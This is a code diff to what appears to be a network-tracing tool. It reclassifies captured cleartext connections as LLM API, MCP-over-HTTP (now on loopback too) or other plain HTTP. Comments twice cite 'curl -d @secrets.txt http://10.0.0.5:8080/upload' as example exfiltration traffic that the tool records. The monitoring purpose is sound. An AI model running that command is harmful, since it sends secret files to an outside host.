@@ -6,12 +6,13 @@
  * judged once for everyone: a connection whose client sent a request of an LLM API
  * (`llm/route.ts` `routeApi`: a model call, a token count or a model listing) is an LLM
  * connection, read like a TLS connection into the HTTP and LLM tables (`cleartextHttpConnections`,
- * the client's pid as the connection's, `conn_gen` -1); on loopback any other one is left to
- * MCP over HTTP (`mcp/http_messages.ts`); off loopback, one whose client sent a JSON-RPC request
- * body to that server (on it or another connection) is MCP's too, and any other plain HTTP/1 a
- * traced client makes to another machine (a download, a REST API, an upload — exfiltration
- * with `curl -d @secrets.txt http://10.0.0.5:8080/upload`) is read into `http_exchanges` like
- * an LLM connection's, without LLM calls (`isOtherRemoteHttp`). Never two of them.
+ * the client's pid as the connection's, `conn_gen` -1); one whose client sent a JSON-RPC request
+ * body to that server (on it or another connection: `isMcp`) is MCP's, read by MCP over HTTP
+ * (`mcp/http_messages.ts`); any other plain HTTP/1 a traced client makes, on loopback or to
+ * another machine (a local dev server, a download, a REST API, an upload — exfiltration with
+ * `curl -d @secrets.txt http://10.0.0.5:8080/upload`, or to a service on 127.0.0.1), is read
+ * into `http_exchanges` like an LLM connection's, without LLM calls (`isOtherHttp`). Never two
+ * of them. MCP is told by what the client sent, not by where the server is.
  *
  * This is how an agent talks to a model server over plain HTTP: on the same machine over
  * loopback (Ollama, LM Studio, vLLM, llama.cpp's server, a LiteLLM proxy), or on another one
@@ -408,26 +409,40 @@ export function sendsJsonRpc(client: TcpStream | undefined): boolean {
   return found;
 }
 
-/** `recording client-pid address port`: the server a connection's client spoke to. */
-export const serverKey = (t: TcpConnection) => `${t.recording} ${t.clientPid} ${t.addr} ${t.port}`;
+/**
+ * `recording client-pid address port`: the server a connection's client spoke to (on loopback
+ * by its port alone: `localhost` may be reached at 127.0.0.1 on one connection, ::1 on another).
+ */
+export const serverKey = (t: TcpConnection) =>
+  `${t.recording} ${t.clientPid} ${t.loopback ? "loopback" : t.addr} ${t.port}`;
 
 /**
- * Whether a connection off loopback is MCP's by the rule `mcp/http_messages.ts` reads it by:
- * its client sent a JSON-RPC request body to that server, on it or on another connection
- * (`mcpServers`: the `serverKey`s of the connections that did).
+ * The MCP servers among connections (`serverKey`): those a client sent a JSON-RPC request body
+ * to (`{` or `[` and `"jsonrpc"`: streamable HTTP's POSTs, HTTP+SSE's POSTs to its endpoint).
+ * `into`: the set to add them to.
  */
-export function isRemoteMcp(t: TcpConnection, mcpServers: ReadonlySet<string>): boolean {
-  return !t.loopback && mcpServers.has(serverKey(t));
+export function addMcpServer(t: TcpConnection, into: Set<string>): void {
+  if (!t.http2 && !t.tunnel && sendsJsonRpc(t.client)) into.add(serverKey(t));
 }
 
 /**
- * Whether a connection is plain HTTP/1 to another machine that is neither an LLM API's nor
- * MCP's (a download, a REST API, an upload: `curl -d @file http://10.0.0.5:8080/upload`), made
- * by a traced client: read into `http_exchanges` (no LLM calls) like an LLM connection.
+ * Whether a connection is MCP's, by the rule `mcp/http_messages.ts` reads it by, on loopback
+ * as off it: its client sent a JSON-RPC request body to that server, on it or on another
+ * connection (HTTP+SSE's GET stream carries none; `mcpServers`: `addMcpServer`'s keys).
  */
-export function isOtherRemoteHttp(t: TcpConnection, mcpServers: ReadonlySet<string>): boolean {
-  return !t.loopback && !t.http2 && !t.tunnel && t.client !== undefined &&
-    t.clientPid !== null && !isLlmConnection(t) && !isRemoteMcp(t, mcpServers);
+export function isMcp(t: TcpConnection, mcpServers: ReadonlySet<string>): boolean {
+  return !t.http2 && !t.tunnel && mcpServers.has(serverKey(t));
+}
+
+/**
+ * Whether a connection is plain HTTP/1 that is neither an LLM API's nor MCP's, on loopback or
+ * to another machine (a local dev server, a download, a REST API, an upload:
+ * `curl -d @file http://10.0.0.5:8080/upload`), made by a traced client: read into
+ * `http_exchanges` (no LLM calls) like an LLM connection.
+ */
+export function isOtherHttp(t: TcpConnection, mcpServers: ReadonlySet<string>): boolean {
+  return !t.http2 && !t.tunnel && t.client !== undefined && t.clientPid !== null &&
+    !isLlmConnection(t) && !isMcp(t, mcpServers);
 }
 
 /** A connection's rows and the connection rebuilt from them (as `tls_stream.ts` gives them). */
@@ -551,20 +566,17 @@ async function* tcpConnections(c: DuckDBConnection): AsyncGenerator<TcpConnectio
 
 /**
  * The cleartext TCP connections of `ipc` read into the HTTP tables, one at a time, shaped as TLS
- * connections: the LLM connections (on loopback or not), and the other plain HTTP/1 a traced
- * client made to another machine that is not MCP's (`isOtherRemoteHttp`: its exchanges, no
- * LLM calls). Their streams that cannot be read go to `problems`. MCP's servers off loopback
- * are found by a first pass over the rows (a client's JSON-RPC request body may come on a
- * later connection than its HTTP+SSE stream).
+ * connections: the LLM connections, and the other plain HTTP/1 a traced client made that is
+ * not MCP's (`isOtherHttp`: its exchanges, no LLM calls), on loopback or not. Their streams
+ * that cannot be read go to `problems`. MCP's servers are found by a first pass over the rows
+ * (a client's JSON-RPC request body may come on a later connection than its HTTP+SSE stream).
  */
 export async function* cleartextHttpConnections(
   c: DuckDBConnection,
   problems: ProblemRow[],
 ): AsyncGenerator<ConnectionRows> {
   const mcpServers = new Set<string>();
-  for await (const t of tcpConnections(c)) {
-    if (!t.loopback && !t.http2 && sendsJsonRpc(t.client)) mcpServers.add(serverKey(t));
-  }
+  for await (const t of tcpConnections(c)) addMcpServer(t, mcpServers);
   for await (const t of tcpConnections(c)) {
     const read = cleartextRead(t, mcpServers, problems);
     if (read) yield read;
@@ -572,39 +584,38 @@ export async function* cleartextHttpConnections(
 }
 
 /**
- * What the HTTP tables make of one cleartext connection (`mcpServers`: the `serverKey`s of MCP's
- * servers off loopback): its rows shaped as a TLS connection's when it is read (an LLM
- * connection, or other plain HTTP a traced client made to another machine), with the problems
- * of its streams that cannot be read; null when it is not the HTTP tables' (MCP's, a tunnel,
- * h2c: `mcp/http_messages.ts` says what it makes of them). Said in `problems`, not read: an
- * LLM connection whose client was not traced, and plain HTTP a traced process served to a
- * client elsewhere that was not traced (its exchanges would be nobody's, or the server's taken
- * for the client's).
+ * What the HTTP tables make of one cleartext connection (`mcpServers`: `addMcpServer`'s keys):
+ * its rows shaped as a TLS connection's when it is read (an LLM connection, or other plain HTTP
+ * a traced client made), with the problems of its streams that cannot be read; null when it is
+ * not the HTTP tables' (MCP's, a tunnel, h2c: `mcp/http_messages.ts` says what it makes of
+ * them). Said in `problems`, not read: an LLM connection whose client was not traced, plain
+ * HTTP a traced process served to a client that was not traced (its exchanges would be
+ * nobody's, or the server's taken for the client's), and the streams of any other connection
+ * that cannot be read (its requests' start not recorded).
  */
 export function cleartextRead(
   t: TcpConnection,
   mcpServers: ReadonlySet<string>,
   problems: ProblemRow[],
 ): ConnectionRows | null {
-  if (isOtherRemoteHttp(t, mcpServers)) {
+  if (isOtherHttp(t, mcpServers)) {
     for (const p of unreadProblems(t)) problems.push(p);
     return cleartextConnection(t);
   }
   const bytes = () => t.rows.reduce((n, c) => n + c.data.length, 0);
   if (!isLlmConnection(t)) {
-    if (
-      !t.loopback && !t.http2 && !t.tunnel && t.clientPid === null && t.serverPid !== null &&
-      !isRemoteMcp(t, mcpServers)
-    ) {
+    if (t.http2 || t.tunnel || isMcp(t, mcpServers)) return null;
+    if (t.clientPid === null && t.serverPid !== null) {
+      const where = t.loopback ? "on this machine" : "elsewhere";
       problems.push({
         recording: t.recording,
         source: cleartextLabel(t.serverPid, t.conn),
         kind: "protocol",
         message: `${connectionName(t)}: plain HTTP pid ${t.serverPid} served to a client ` +
-          `elsewhere that was not traced: its ${bytes()} bytes are not read into http_exchanges`,
+          `${where} that was not traced: its ${bytes()} bytes are not read into http_exchanges`,
         exchange_id: null,
       });
-    }
+    } else for (const p of unreadProblems(t)) problems.push(p);
     return null;
   }
   if (t.clientPid === null) {
